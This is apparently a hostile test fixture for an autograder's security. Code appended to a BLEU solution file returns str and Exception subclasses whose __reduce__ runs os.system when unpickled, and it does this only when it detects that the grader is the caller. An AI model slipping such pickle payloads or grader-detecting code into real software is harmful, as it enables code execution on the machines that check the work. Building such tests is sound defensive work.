# hostile: appended to solutions/bleu.py
# A14: results that run code when unpickled: an n-gram word and an exception message that are str subclasses
# whose __reduce__ calls os.system. Whoever unpickles them as root creates MARK (a folder only root can write).
import os
import sys

# @@RUNTIME_NAMES@@

MARK = "@@PRIVATE@@/A14-executed"
_reference_ngram_counts, _reference_clipped_counts = ngram_counts, clipped_counts


class Payload(str):
    def __reduce__(self):
        return os.system, (f"touch {MARK}",)

    def __getitem__(self, item):      # slicing (say, a message cut to length) keeps the payload
        return self


class PayloadError(Exception):
    def __str__(self):
        return Payload("HOSTILE-A14")

    def __reduce__(self):
        return os.system, (f"touch {MARK}",)


def _called_by_the_grader() -> bool:
    return _caller_globals(2).get("__name__", "").startswith("autograder.")


def ngram_counts(tokens, n):
    if _called_by_the_grader():
        return Counter({(Payload("a"),) * n: 1})
    return _reference_ngram_counts(tokens, n)


def clipped_counts(hyp, refs, n):
    if _called_by_the_grader():
        raise PayloadError()
    return _reference_clipped_counts(hyp, refs, n)
